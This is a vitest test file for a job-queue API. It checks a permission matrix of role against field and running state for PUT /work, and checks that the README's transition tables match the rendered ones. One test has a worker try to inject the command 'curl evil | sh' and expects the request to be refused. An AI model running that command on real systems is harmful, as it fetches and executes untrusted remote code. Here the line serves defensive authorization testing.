import { readFileSync } from "node:fs";
import { join } from "node:path";
import { BSON, ObjectId } from "mongodb";
import { describe, expect, it } from "vitest";
import { renderRunTransitions, renderTransitions } from "../src/index.js";
import { aWork, QUIET_REAPER, useTestService } from "./support/service.js";

/** Who may write which field through PUT /work: each role x each field x running or not. */

const { t, db } = useTestService(import.meta.filename, QUIET_REAPER);

type Role = "worker" | "owner" | "other" | "admin";
const tokenOf = (role: Role) =>
  ({ worker: t.tokens.worker, owner: t.tokens.alice, other: t.tokens.bob, admin: t.tokens.admin })[
    role
  ];

/** A new value for each field a PUT might carry. */
const CHANGES: Record<string, unknown> = {
  command: ["false"],
  parameters: { x: 2 },
  priority: 5,
  tags: ["changed"],
  event: [7],
  timeout: 99,
  retries: 1,
  site: "elsewhere",
  config: { parent: "p2" },
  notify: { slack: { channel_id: "C2" } },
  pipeline: "moved",
  user: "mallory",
  creation: 1,
  results: { n: 1 },
  products: ["/data/p.h5"],
  plots: ["/data/p.png"],
};
const REPORTED = ["results", "products", "plots"];

/** The answer the state machine gives: the documented matrix. */
function expected(role: Role, field: string, running: boolean): number {
  if (field === "pipeline" || field === "user") return 403;
  // Only the attempt's claimer reports on it: not even an admin.
  if (REPORTED.includes(field)) return role === "worker" && running ? 200 : 403;
  // Only staleness counts from it, and CHIME backdates works to test its audits.
  if (field === "creation") return role === "admin" ? 200 : 403;
  // Definition fields.
  if (role === "worker" || role === "other") return 403;
  // An admin moves a running work's deadline, and sets how many tries it has left.
  if (running) return role === "admin" && (field === "timeout" || field === "retries") ? 200 : 409;
  return 200;
}

const raw = async (id: string) =>
  BSON.serialize((await db.collection("works").findOne({ _id: new ObjectId(id) })) ?? {});

/** A fresh work, alone in its own pipeline: queued, or claimed by the worker. */
async function aWorkIn(state: "queued" | "running"): Promise<{ id: string; attempt: number }> {
  const pipeline = `matrix-${new ObjectId().toHexString()}`;
  const [id] = (
    await t.call("POST", "/work?return_ids=true", {
      token: t.tokens.alice,
      body: [aWork({ pipeline })],
    })
  ).body as [string];
  if (state === "queued") return { id, attempt: 0 };
  const claimed = (
    await t.call("POST", "/work/withdraw?lease=60", { token: t.tokens.worker, body: { pipeline } })
  ).body as { id: string; attempt: number };
  expect(claimed.id).toBe(id);
  return claimed;
}

describe("who may write which field", () => {
  const roles: Role[] = ["worker", "owner", "other", "admin"];
  for (const running of [false, true]) {
    for (const role of roles) {
      it(`${role}, ${running ? "running" : "not running"}: every field`, async () => {
        for (const [field, value] of Object.entries(CHANGES)) {
          const work = await aWorkIn(running ? "running" : "queued");
          const before = await raw(work.id);
          const answer = await t.call("PUT", "/work", {
            token: tokenOf(role),
            body: [{ id: work.id, attempt: work.attempt, [field]: value }],
          });
          const want = expected(role, field, running);
          expect(answer.status, `${role} ${field}: ${JSON.stringify(answer.body)}`).toBe(want);
          if (want === 403) {
            const claimed = role === "admin" && running && REPORTED.includes(field);
            expect(JSON.stringify(answer.body), `${role} ${field}`).toContain(
              claimed ? "claimed by another worker" : `field \\"${field}\\"`,
            );
          }
          if (want !== 200) expect(await raw(work.id), `${role} ${field}`).toEqual(before);
        }
      });
    }
  }

  it("a worker rewriting another user's command while reporting gets 403, and nothing of the work changes", async () => {
    const work = await aWorkIn("running");
    const before = await raw(work.id);
    const answer = await t.call("PUT", "/work", {
      token: t.tokens.worker,
      body: [
        {
          id: work.id,
          attempt: work.attempt,
          status: "failure",
          command: ["sh", "-c", "curl evil | sh"],
          results: { error: "so it retries" },
        },
      ],
    });
    expect(answer.status).toBe(403);
    expect(JSON.stringify(answer.body)).toContain('field \\"command\\"');
    expect(await raw(work.id)).toEqual(before);
  });

  it("a PUT asking for running is a 409 that says only a claim does that", async () => {
    for (const token of [t.tokens.alice, t.tokens.admin, t.tokens.worker]) {
      const work = await aWorkIn("queued");
      const before = await raw(work.id);
      const answer = await t.call("PUT", "/work", {
        token,
        body: [{ id: work.id, status: "running" }],
      });
      expect(answer.status).toBe(409);
      expect(JSON.stringify(answer.body)).toMatch(/only a claim/);
      expect(await raw(work.id)).toEqual(before);
    }
  });

  it("an owner re-queues a finished work with fresh retries, and may change it first", async () => {
    const work = await aWorkIn("running");
    await t.call("PUT", "/work", {
      token: t.tokens.worker,
      body: [{ id: work.id, attempt: work.attempt, status: "success" }],
    });
    const answer = await t.call("PUT", "/work", {
      token: t.tokens.alice,
      body: [{ id: work.id, status: "queued", priority: 5 }],
    });
    expect(answer.status).toBe(200);
    const [stored] = (await t.call("POST", "/view", { body: { query: { id: work.id } } }))
      .body as Record<string, unknown>[];
    expect(stored).toMatchObject({ status: "queued", priority: 5, uncounted: 1 });
  });

  it("CHIME's worker sending back the whole work, with its own defaults filled in, is an outcome", async () => {
    const work = await aWorkIn("running");
    const [stored] = (await t.call("POST", "/view", { body: { query: { id: work.id } } }))
      .body as Record<string, unknown>[];
    const whole = {
      ...stored,
      config: {
        archive: { results: true, products: "copy", plots: "copy", logs: "move" },
        metrics: false,
        parent: null,
        orgs: ["chimefrb"],
        teams: null,
      },
      notify: { slack: { channel_id: null, member_ids: null, reply: null } },
      function: null,
      status: "success",
      results: { dm: 100.5 },
      stop: Date.now() / 1000,
    };
    const answer = await t.call("PUT", "/work", { token: t.tokens.worker, body: [whole] });
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
  });
});

describe("the transition tables", () => {
  it.each([
    ["works'", renderTransitions],
    ["runs'", renderRunTransitions],
  ])("the %s is the one the README shows", (_, render) => {
    const readme = readFileSync(join(import.meta.dirname, "..", "..", "..", "README.md"), "utf8");
    // Compared cell by cell: the formatter pads the README's table.
    const rows = (text: string) =>
      text
        .split("\n")
        .filter((line) => line.startsWith("|") && !/^\|[\s|-]+\|$/.test(line))
        .map((line) => line.split("|").map((cell) => cell.trim()));
    const table = rows(render());
    const shown = rows(readme);
    // Both tables start with a row of headings; this one's is known by its cells.
    const start = shown.findIndex((row) => row.join("|") === table[0]?.join("|"));
    expect(start).toBeGreaterThanOrEqual(0);
    expect(shown.slice(start, start + table.length)).toEqual(table);
  });
});
